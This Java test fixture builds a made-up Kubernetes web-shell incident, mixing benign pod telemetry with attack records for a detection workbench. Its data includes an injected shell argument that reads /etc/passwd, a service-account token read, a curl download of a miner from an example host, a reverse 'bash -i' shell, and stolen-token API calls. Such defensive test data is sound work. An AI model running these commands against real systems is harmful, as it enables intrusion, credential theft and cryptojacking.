package salvor.workbench;

import java.nio.IntBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import org.jspecify.annotations.Nullable;
import salvor.baseline.Given;
import salvor.baseline.Judge;
import salvor.baseline.Judgement;
import salvor.baseline.Reason;
import salvor.baseline.Severity;
import salvor.baseline.Verdicts;
import salvor.casefile.Cases;
import salvor.casefile.OpenedCase;
import salvor.casefile.Opening;
import salvor.evidence.Activity;
import salvor.evidence.Endpoint;
import salvor.evidence.Evidence;
import salvor.evidence.Observation;
import salvor.evidence.Observations;
import salvor.evidence.ObservedTime;
import salvor.evidence.ProcessInfo;
import salvor.evidence.Quality;
import salvor.evidence.RawRecords;
import salvor.evidence.RecordRef;
import salvor.evidence.Source;
import salvor.jobs.Progress;
import salvor.triage.Finding;
import salvor.triage.MissingEvidence;
import salvor.triage.NextStep;
import salvor.workload.Inventory;
import salvor.workload.Location;
import salvor.workload.WorkloadRef;

/**
 * A made-up incident: quiet life on six pods, and a web shell that somebody uses for two minutes.
 */
final class SampleCase {
  static final long BEGIN = Instant.parse("2026-11-23T04:00:00Z").getEpochSecond() * 1_000_000_000L;
  static final long SECOND = 1_000_000_000L;
  static final long ATTACK = BEGIN + 365 * SECOND;

  private final RandomGenerator random = RandomGeneratorFactory.of("L64X128MixRandom").create(7);
  private final List<Observation> all = new ArrayList<>();
  private final Map<RecordRef, Judgement> judged = new HashMap<>();
  private final Map<RecordRef, Integer> story = new HashMap<>();
  private long line;
  private int coarse; // records of a second source, which tells whole seconds

  private static Location at(
      String namespace, String workload, String pod, String container, int node) {
    return new Location(
        "node" + node,
        namespace,
        pod,
        null,
        container,
        null,
        "registry.corp.example/" + workload + ":1.4.2",
        null,
        new WorkloadRef(namespace, "Deployment", workload));
  }

  private static ProcessInfo process(int pid, String executable, String command, String parent) {
    return new ProcessInfo(
        pid,
        pid % 1000,
        null,
        executable,
        executable.substring(executable.lastIndexOf('/') + 1),
        command.replace(' ', '\0'),
        "/srv",
        33,
        new ProcessInfo.Parent(pid - 1, null, parent, null, null));
  }

  private RecordRef add(
      @Nullable Long time,
      Location location,
      ProcessInfo process,
      Activity activity,
      Judgement judgement,
      Quality... quality) {
    RecordRef ref = new RecordRef(0, ++line, line * 100, 100);
    ObservedTime when =
        time == null ? null : new ObservedTime(time, Instant.ofEpochSecond(0, time).toString());
    all.add(new Observation(when, location, process, activity, Set.of(quality), ref));
    judged.put(ref, judgement);
    return ref;
  }

  private static Judgement in(String element) {
    return new Judgement(
        Reason.MATCHED,
        Severity.INFO,
        List.of(),
        "shop/web (learned)",
        element,
        "4 of 4",
        List.of(),
        List.of(),
        null);
  }

  private static Judgement out(
      Reason reason,
      Severity severity,
      List<Judgement.Modifier> modifiers,
      @Nullable String nearest,
      Judgement.Difference... differences) {
    return new Judgement(
        reason,
        severity,
        modifiers,
        "shop/web (learned)",
        nearest,
        nearest == null ? null : "3 of 4",
        List.of(differences),
        List.of(),
        null);
  }

  private void life(Location pod, int seconds) {
    ProcessInfo nginx =
        process(1200, "/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx");
    ProcessInfo export =
        process(2400, "/bin/sh", "sh -c /srv/export.sh fmt=csv", "/usr/bin/python3.12");
    ProcessInfo probe =
        process(2500, "/usr/bin/cat", "cat /tmp/healthy", "/usr/bin/containerd-shim-runc-v2");
    for (long t = 0;
        t < seconds * SECOND;
        t += (long) (SECOND * (0.2 + random.nextDouble() * 1.6))) {
      long time = BEGIN + t;
      switch (random.nextInt(10)) {
        case 0, 1, 2, 3 ->
            add(
                time,
                pod,
                nginx,
                new Activity.ConnectionAccepted(
                    new Endpoint("10.244.0.12", 8080, null),
                    new Endpoint("10.244.1.9", 40000 + random.nextInt(20000), null),
                    "tcp"),
                in("accept :8080 from pods"));
        case 4, 5 ->
            add(time, pod, export, new Activity.ProcessStarted(), in("sh -c <path> <word>"));
        case 6, 7 ->
            add(
                time,
                pod,
                nginx,
                new Activity.FileOpened(
                    "/srv/static/app-" + random.nextInt(30) + ".css", "O_RDONLY"),
                in("/srv/static/*"));
        case 8 ->
            add(
                time,
                pod,
                export,
                new Activity.ConnectionOpened(
                    new Endpoint("10.244.0.12", 51002, null),
                    new Endpoint("198.51.100.10", 5432, "db.corp.example"),
                    "tcp"),
                in("db.corp.example:5432"));
        default ->
            add(
                time,
                pod,
                probe,
                new Activity.ProcessStarted(),
                Judgement.of(Reason.PROBE),
                Quality.NOT_IN_INIT_TREE);
      }
    }
  }

  private static final List<Judgement.Modifier> SHELL = List.of(Judgement.Modifier.SHELL_ANCESTOR);

  private void step(
      int number,
      double after,
      Location pod,
      ProcessInfo process,
      Activity activity,
      Judgement judgement,
      Quality... quality) {
    story.put(
        add(ATTACK + (long) (after * SECOND), pod, process, activity, judgement, quality), number);
  }

  private void attack(Location web) {
    ProcessInfo shell =
        process(
            7001,
            "/bin/sh",
            "sh -c /srv/export.sh fmt=csv;id;cat /etc/passwd",
            "/usr/bin/python3.12");
    step(
        0,
        0,
        web,
        shell,
        new Activity.ProcessStarted(),
        out(
            Reason.NEW_ARG_SHAPE,
            Severity.HIGH,
            List.of(Judgement.Modifier.SAME_LINEAGE_AS_EARLIER_OUT),
            "sh -c <path> <word>",
            new Judgement.Difference(
                "arguments", "sh -c <path> <word>", "sh -c <path> <word> ; <word> ; cat <path>")));
    step(
        0,
        0.02,
        web,
        process(7002, "/usr/bin/id", "id", "/bin/sh"),
        new Activity.ProcessStarted(),
        out(Reason.NEW_BINARY_IN_IMAGE, Severity.HIGH, SHELL, null));
    step(
        0,
        9.1,
        web,
        process(
            7011,
            "/usr/bin/cat",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "/bin/sh"),
        new Activity.FileOpened("/var/run/secrets/kubernetes.io/serviceaccount/token", "O_RDONLY"),
        out(
            Reason.TOKEN_READ_BY_TOOL,
            Severity.CRITICAL,
            List.of(Judgement.Modifier.SENSITIVE_FILE),
            null));
    step(
        1,
        31,
        web,
        process(
            7040, "/usr/bin/curl", "curl -so /tmp/.x http://cdn-static.example/kworker", "/bin/sh"),
        new Activity.ConnectionOpened(
            new Endpoint("10.244.0.12", 40112, null),
            new Endpoint("203.0.113.66", 80, "cdn-static.example"),
            "tcp"),
        out(
            Reason.NEW_PEER,
            Severity.CRITICAL,
            List.of(Judgement.Modifier.PUBLIC_PEER, Judgement.Modifier.SHELL_ANCESTOR),
            "db.corp.example:5432",
            new Judgement.Difference("peer", "db.corp.example", "203.0.113.66"),
            new Judgement.Difference("port", "5432", "80")));
    step(
        1,
        31.6,
        web,
        process(
            7040, "/usr/bin/curl", "curl -so /tmp/.x http://cdn-static.example/kworker", "/bin/sh"),
        new Activity.FileWritten("/tmp/.x", "O_WRONLY|O_CREAT"),
        out(Reason.NEW_FILE_WRITE, Severity.MEDIUM, SHELL, null));
    step(
        1,
        33,
        web,
        process(7044, "/tmp/.x", "/tmp/.x --donate-level 1 -o 203.0.113.77:3333", "/bin/sh"),
        new Activity.ProcessStarted(),
        out(Reason.NEW_BINARY_NOT_IN_IMAGE, Severity.CRITICAL, SHELL, null),
        Quality.EXE_UPPER_LAYER);
    for (int i = 0; i < 40; i++) {
      step(
          1,
          33.2 + i * 2.3,
          web,
          process(7044, "/tmp/.x", "/tmp/.x --donate-level 1 -o 203.0.113.77:3333", "/bin/sh"),
          new Activity.ConnectionOpened(
              new Endpoint("10.244.0.12", 41000 + i, null),
              new Endpoint("203.0.113.77", 3333, null),
              "tcp"),
          out(Reason.MINER_PORT, Severity.CRITICAL, List.of(Judgement.Modifier.PUBLIC_PEER), null));
    }
    step(
        2,
        64,
        web,
        process(7080, "/bin/bash", "bash -i", "/bin/sh"),
        new Activity.ConnectionOpened(
            new Endpoint("10.244.0.12", 40190, null),
            new Endpoint("203.0.113.66", 4444, null),
            "tcp"),
        out(
            Reason.SHELL_ON_NETWORK,
            Severity.CRITICAL,
            List.of(Judgement.Modifier.PUBLIC_PEER),
            null),
        Quality.TTY);
    step(
        2,
        80,
        web,
        process(7091, "memfd:7", "7 \u001b[31m-q\u202e", "/bin/bash"),
        new Activity.ProcessStarted(),
        out(Reason.EXECUTED_FROM_MEMORY, Severity.CRITICAL, SHELL, null),
        Quality.EXE_FROM_MEMFD);
  }

  private void rest(Location web, Location pay) {
    Location api = new Location("node1", null, null, null, null, null, null, null, null);
    for (int i = 0; i < 60; i++) {
      add(
          BEGIN + i * 8 * SECOND,
          api,
          ProcessInfo.UNKNOWN,
          new Activity.ApiRequest(
              i % 3 == 0 ? "list" : "get",
              "pods",
              null,
              "shop",
              null,
              "system:serviceaccount:kube-system:deployment-controller",
              null,
              null,
              "10.0.0.1",
              "kube-controller-manager/v1.36.2",
              200,
              null),
          Judgement.of(Reason.NOT_JUDGED));
    }
    step(
        0,
        12,
        api,
        ProcessInfo.UNKNOWN,
        new Activity.ApiRequest(
            "list",
            "secrets",
            null,
            "shop",
            null,
            "system:serviceaccount:shop:web",
            null,
            "shop/web-6d4f9c7b8d-x2k9p",
            "203.0.113.66",
            "curl/8.5.0",
            200,
            "/api/v1/namespaces/shop/secrets"),
        out(Reason.TOKEN_USED_ELSEWHERE, Severity.CRITICAL, List.of(), null));
    RecordRef exec =
        add(
            ATTACK + 150 * SECOND,
            api,
            ProcessInfo.UNKNOWN,
            new Activity.ApiRequest(
                "create",
                "pods",
                "exec",
                "shop",
                "web-6d4f9c7b8d-x2k9p",
                "alice",
                null,
                null,
                "192.168.77.1",
                "kubectl/v1.36.2",
                101,
                null),
            Judgement.of(Reason.NOT_JUDGED));
    add(
        ATTACK + 150 * SECOND + 20_000_000,
        web,
        process(7200, "/usr/bin/ss", "ss -tanp", "/usr/bin/runc"),
        new Activity.ProcessStarted(),
        new Judgement(
            Reason.OPERATOR_EXEC,
            Severity.INFO,
            List.of(),
            "shop/web (learned)",
            null,
            null,
            List.of(),
            List.of(),
            exec),
        Quality.NOT_IN_INIT_TREE);
    add(
        BEGIN + 300 * SECOND,
        pay,
        ProcessInfo.UNKNOWN,
        new Activity.EventsLost(1200, "ring buffer full"),
        Judgement.of(Reason.NOT_JUDGED));
    add(
        null,
        web,
        ProcessInfo.UNKNOWN,
        new Activity.FileOpened("/etc/hosts", null),
        Judgement.of(Reason.NOT_ENOUGH_DETAIL));
  }

  private Evidence evidence() {
    Location web = at("shop", "web", "web-6d4f9c7b8d-x2k9p", "web", 1);
    Location pay = at("shop", "pay", "pay-57c9d6fd94-k8wzt", "pay", 1);
    List<Location> pods =
        List.of(
            web,
            at("shop", "web", "web-6d4f9c7b8d-7qvnm", "web", 2),
            pay,
            at("shop", "pay", "pay-57c9d6fd94-r5xhj", "pay", 2),
            at("shop", "cache", "cache-0", "cache", 2),
            at(
                "shop",
                "logship",
                "logship-a-very-long-name-that-nobody-ever-shortened-4fj2n",
                "ship",
                1));
    pods.forEach(p -> life(p, 620));
    for (int i = 0; i < 50; i++) {
      add(
          BEGIN + i * 11 * SECOND,
          at("staging", "web-bare", "web-bare", "web", 2),
          process(90, "/usr/sbin/nginx", "nginx", "/sbin/init"),
          new Activity.ProcessStarted(),
          Judgement.of(Reason.NO_BASELINE));
    }
    attack(web);
    rest(web, pay);
    List<Source> sources = new ArrayList<>();
    sources.add(source(0, "host/falco.jsonl.gz", "falco", line));
    if (coarse > 0) {
      sources.add(source(1, "hubble.jsonl", "hubble", coarse));
    }
    return new Evidence(sources, Observations.of(all), Inventory.EMPTY);
  }

  private static Source source(int id, String path, String format, long lines) {
    return new Source(
        id,
        "evidence-samples/webshell/" + path,
        "0".repeat(64),
        format,
        1000,
        lines,
        lines,
        0,
        List.of(),
        new TreeMap<>(),
        List.of());
  }

  private Verdicts verdicts(Observations observations) {
    List<Judgement> distinct = new ArrayList<>();
    Map<Judgement, Integer> known = new HashMap<>();
    IntBuffer perRow = IntBuffer.allocate(observations.size());
    for (int row = 0; row < observations.size(); row++) {
      Judgement judgement = judged.get(observations.source(row));
      perRow.put(
          row,
          known.computeIfAbsent(
              judgement,
              j -> {
                distinct.add(j);
                return distinct.size() - 1;
              }));
    }
    return new Verdicts(perRow, distinct);
  }

  private List<Finding> findings(Observations observations, Verdicts verdicts) {
    Map<Integer, List<Integer>> rows = new TreeMap<>();
    for (int row = 0; row < observations.size(); row++) {
      Integer part = story.get(observations.source(row));
      if (part != null) {
        rows.computeIfAbsent(part, _ -> new ArrayList<>()).add(row);
      }
    }
    return rows.values().stream().map(r -> finding(observations, verdicts, r)).toList();
  }

  private static Finding finding(Observations observations, Verdicts verdicts, List<Integer> rows) {
    int worst =
        rows.stream()
            .max((a, b) ->
                verdicts.judgement(a).severity().compareTo(verdicts.judgement(b).severity()))
            .orElseThrow();
    Observation o = observations.get(worst);
    IntBuffer numbers = IntBuffer.wrap(rows.stream().mapToInt(Integer::intValue).toArray());
    return new Finding(
        observations.time(rows.getFirst()),
        observations.time(rows.getLast()),
        worst,
        verdicts.judgement(worst),
        verdicts.judgement(worst),
        o.location(),
        o.location().workload(),
        o.process().program(),
        o.process().commandLine(),
        o.process().parent() == null ? null : o.process().parent().executable(),
        null,
        numbers,
        Map.of(verdicts.judgement(worst).reason(), rows.size()),
        Map.of(),
        List.of(NextStep.FOLLOW_THE_PROCESS_TREE, NextStep.CHECK_THE_SAME_DIGEST),
        Set.of(MissingEvidence.DNS),
        IntBuffer.allocate(0));
  }

  /** The case with two records whose times cannot be true. */
  static Investigation withFarTimes() {
    SampleCase sample = new SampleCase();
    Location pay = at("shop", "pay", "pay-57c9d6fd94-k8wzt", "pay", 1);
    for (String time : List.of("1999-12-31T23:59:00Z", "2081-03-04T05:06:07Z")) {
      sample.add(
          Instant.parse(time).getEpochSecond() * SECOND,
          pay,
          process(90, "/usr/bin/pay", "pay", "/sbin/init"),
          new Activity.ProcessStarted(),
          out(Reason.NEW_BINARY_IN_IMAGE, Severity.HIGH, List.of(), null),
          Quality.TIME_SUSPECT);
    }
    return sample.opened();
  }

  /** The case whose sensor said first what ran already, a month long. */
  static Investigation withWhatRanBefore() {
    SampleCase sample = new SampleCase();
    sample.add(
        ATTACK - 31 * 86_400 * SECOND,
        at("shop", "pay", "pay-57c9d6fd94-k8wzt", "pay", 1),
        process(90, "/usr/bin/pay", "pay", "/sbin/init"),
        new Activity.ProcessStarted(),
        Judgement.of(Reason.MATCHED),
        Quality.RUNNING_BEFORE_SENSOR);
    return sample.opened();
  }

  /** The case with a second source, whose times are whole seconds. */
  static Investigation withWholeSeconds() {
    SampleCase sample = new SampleCase();
    Location web = at("shop", "web", "web-6d4f9c7b8d-x2k9p", "web", 1);
    for (int second : new int[] {9, 31, 33, 35, 40, 64, 65}) {
      sample.sent(second, web);
    }
    sample.sent(30, at("shop", "late", "late-0", "late", 3)); // whose node nobody else recorded
    sample.sent(38, at("shop", "late", "late-0", "late", 3));
    return sample.opened();
  }

  private void sent(int second, Location from) {
    RecordRef ref = new RecordRef(1, ++coarse, 0, 1);
    long time = ATTACK + second * SECOND;
    ObservedTime when = new ObservedTime(time, Instant.ofEpochSecond(0, time).toString());
    Activity sent =
        new Activity.ConnectionOpened(
            new Endpoint("10.244.0.12", 40112, null),
            new Endpoint("203.0.113.66", 80, "cdn-static.example"),
            "tcp");
    all.add(new Observation(when, from, ProcessInfo.UNKNOWN, sent, Set.of(), ref));
    judged.put(ref, out(Reason.NEW_PEER, Severity.HIGH, List.of(), null));
  }

  /** The case, opened. */
  static Session session(WorkbenchViewModel model) {
    return ((WorkbenchViewModel.State.Open) model.state().get()).session();
  }

  static OpenRequest request() {
    return new OpenRequest("webshell", _ -> investigation());
  }

  static Investigation investigation() {
    return new SampleCase().opened();
  }

  /** The same in a case folder of its own, which keeps what is added. */
  static Investigation inFolder(Path folder) throws Exception {
    SampleCase sample = new SampleCase();
    Evidence evidence = sample.evidence();
    Verdicts verdicts = sample.verdicts(evidence.observations());
    Path given = folder.resolve("falco.jsonl.gz");
    Files.writeString(given, "stands for the evidence");
    Cases cases =
        new Cases(
            (_, _) -> new Given(evidence, List.of()), (_, _, _) -> verdicts, Clock.systemUTC());
    OpenedCase opened =
        cases.open(
            Opening.inFolder(List.of(given), List.of(), folder.resolve("case")), Progress.NONE);
    return new Investigation(
        "Web shell in shop",
        opened,
        new Judge(List.of(), Inventory.EMPTY).matching(),
        sample.findings(evidence.observations(), verdicts),
        SampleCase::record,
        SampleCase::readNothing);
  }

  /** Stands where evidence is not read again. */
  static Given readNothing(List<Path> paths, Progress progress) {
    throw new IllegalStateException("is read anew");
  }

  private Investigation opened() {
    SampleCase sample = this;
    Evidence evidence = sample.evidence();
    Verdicts verdicts = sample.verdicts(evidence.observations());
    return of(
        "Web shell in shop",
        evidence,
        verdicts,
        sample.findings(evidence.observations(), verdicts),
        SampleCase::record);
  }

  private static byte[] record(RecordRef ref) {
    return ("{\"hostname\":\"node1\",\"output\":\"04:06:05.001: Process start \\u001b[31m\",\"priority\":\"Notice\",\"rule\":\"telemetry: process\",\"time\":\"2026-11-23T04:06:05.001234567Z\",\"output_fields\":{\"container.id\":\"8e1f0c2b7a55\",\"evt.num\":"
            + ref.line()
            + ",\"proc.cmdline\":\"sh -c /srv/export.sh fmt=csv;id\",\"proc.exepath\":\"/bin/sh\",\"proc.pid\":7001,\"tags\":[\"container\",\"process\"],\"none\":{}}}")
        .getBytes(StandardCharsets.UTF_8);
  }

  static Investigation of(
      String name,
      Evidence evidence,
      Verdicts verdicts,
      List<Finding> findings,
      RawRecords records) {
    Cases cases =
        new Cases(
            (_, _) -> new Given(evidence, List.of()), (_, _, _) -> verdicts, Clock.systemUTC());
    try {
      OpenedCase opened = cases.open(Opening.inMemory(List.of(), List.of()), Progress.NONE);
      return new Investigation(
          name,
          opened,
          new Judge(List.of(), Inventory.EMPTY).matching(),
          findings,
          records,
          SampleCase::readNothing);
    } catch (Exception e) {
      throw new AssertionError(e);
    }
  }
}
